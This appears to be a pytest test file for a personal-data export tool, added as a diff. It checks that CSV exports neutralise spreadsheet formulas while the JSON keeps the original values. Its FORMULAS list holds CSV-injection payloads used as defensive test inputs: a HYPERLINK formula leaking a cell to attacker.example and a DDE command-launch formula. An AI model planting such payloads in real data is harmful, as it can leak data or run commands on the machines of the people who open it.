@@ -1,0 +1,114 @@
+"""The access package's CSV is safe to open in a spreadsheet (OWASP CSV injection) while its JSON keeps
+every value exactly; a JSON-lines value with a lone surrogate escape exports (issue 18)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import sqlite3
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from dsarctl.export import spreadsheet_cell
+from helpers import write_inventory
+
+FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', "=cmd|' /C calc'!A0", "+1+1",
+            "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=1+1"]
+
+
+def crm(folder: Path, rows: list[tuple]) -> Path:
+    """A CRM table with a column per kind of value."""
+    db = folder / "crm.db"
+    with sqlite3.connect(db) as conn:
+        conn.execute("CREATE TABLE customers (id INTEGER PRIMARY KEY, email TEXT, name TEXT, phone TEXT, "
+                     "note TEXT, balance TEXT)")
+        conn.executemany("INSERT INTO customers VALUES (?,?,?,?,?,?)", rows)
+    conn.close()
+    return write_inventory(folder, """
+        crm:
+          connector: sql
+          url: sqlite:///crm.db
+          collections:
+            customers:
+              identities: {email: email}
+    """)
+
+
+def exported(cli, inventory: Path, subject: str, tmp_path: Path) -> dict[str, bytes]:
+    target = tmp_path / "out.zip"
+    r = cli("-i", str(inventory), "export", subject, "-o", str(target))
+    assert r.code == 0, r
+    with zipfile.ZipFile(target) as zf:
+        return {name: zf.read(name) for name in zf.namelist()}
+
+
+def csv_rows(data: bytes) -> list[dict[str, str]]:
+    assert data.startswith(b"\xef\xbb\xbf")
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_formula_cell_is_neutralised_in_the_csv_and_exact_in_the_json(tmp_path, cli, formula):
+    inventory = crm(tmp_path, [(1, "alice@example.com", formula, "+44 20 7946 0958", formula, "-12.50"),
+                               (2, "bob@example.com", "Bob", None, None, None)])
+    files = exported(cli, inventory, "alice@example.com", tmp_path)
+    (row,) = csv_rows(files["data/crm/customers.csv"])
+    assert row["name"] == row["note"] == "'" + formula
+    (record,) = json.loads(files["data/crm/customers.json"])
+    assert record["name"] == record["note"] == formula
+
+
+def test_phone_numbers_and_plain_numbers_stay_as_they_are(tmp_path, cli):
+    """They hold nothing a spreadsheet could run: no quote is put before them."""
+    inventory = crm(tmp_path, [(1, "alice@example.com", "Alice", "+44 20 7946 0958", "+442079460958", "-12.50")])
+    files = exported(cli, inventory, "alice@example.com", tmp_path)
+    (row,) = csv_rows(files["data/crm/customers.csv"])
+    assert (row["phone"], row["note"], row["balance"]) == ("+44 20 7946 0958", "+442079460958", "-12.50")
+
+
+def test_column_names_are_neutralised_too(tmp_path, cli):
+    (tmp_path / "u.jsonl").write_text(json.dumps({"email": "alice@example.com", "=1+2": "x"}) + "\n")
+    inventory = write_inventory(tmp_path, """
+        usage:
+          connector: jsonl
+          path: u.jsonl
+          identities: {email: email}
+    """)
+    files = exported(cli, inventory, "alice@example.com", tmp_path)
+    header = next(csv.reader(io.StringIO(files["data/usage/usage.csv"].decode("utf-8-sig"), newline="")))
+    assert header == ["email", "'=1+2"]
+    assert json.loads(files["data/usage/usage.json"]) == [{"email": "alice@example.com", "=1+2": "x"}]
+
+
+@pytest.mark.parametrize("value, cell", [
+    ("=1", "'=1"), ("+", "'+"), ("-", "'-"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("-1+1", "'-1+1"),
+    ("+44 20 7946 0958 ext. 12", "'+44 20 7946 0958 ext. 12"), ("+1 (555) 010-9999", "+1 (555) 010-9999"),
+    ("+44 (0)20 7946 0958", "+44 (0)20 7946 0958"), ("-3", "-3"), ("+7", "+7"), ("1e5", "1e5"), ("a=1", "a=1"),
+    ("", ""), (" =1", " =1"), ("'=1", "'=1"),
+])
+def test_spreadsheet_cell(value, cell):
+    assert spreadsheet_cell(value) == cell
+
+
+def test_a_lone_surrogate_escape_in_json_lines_exports(tmp_path, cli):
+    """`"\\udc80"` is valid JSON, but UTF-8 cannot hold the character: the JSON file keeps it as the
+    escape (the value reads back exactly), the CSV and index.html show U+FFFD; exit 0."""
+    line = '{"email": "alice@example.com", "note": "x\\udc80y", "name": "Zoë"}\n'
+    (tmp_path / "u.jsonl").write_text(line + '{"email": "bob@example.com", "note": "n"}\n')
+    inventory = write_inventory(tmp_path, """
+        usage:
+          connector: jsonl
+          path: u.jsonl
+          identities: {email: email}
+          erase: {action: anonymize, fields: {email: hash}}
+    """)
+    files = exported(cli, inventory, "alice@example.com", tmp_path)
+    (record,) = json.loads(files["data/usage/usage.json"].decode("utf-8"))
+    assert record == {"email": "alice@example.com", "note": "x\udc80y", "name": "Zoë"}
+    (row,) = csv_rows(files["data/usage/usage.csv"])
+    assert row["note"] == "x\ufffdy" and row["name"] == "Zoë"
+    assert "x\ufffdy" in files["index.html"].decode("utf-8")
+    json.loads(files["manifest.json"].decode("utf-8"))
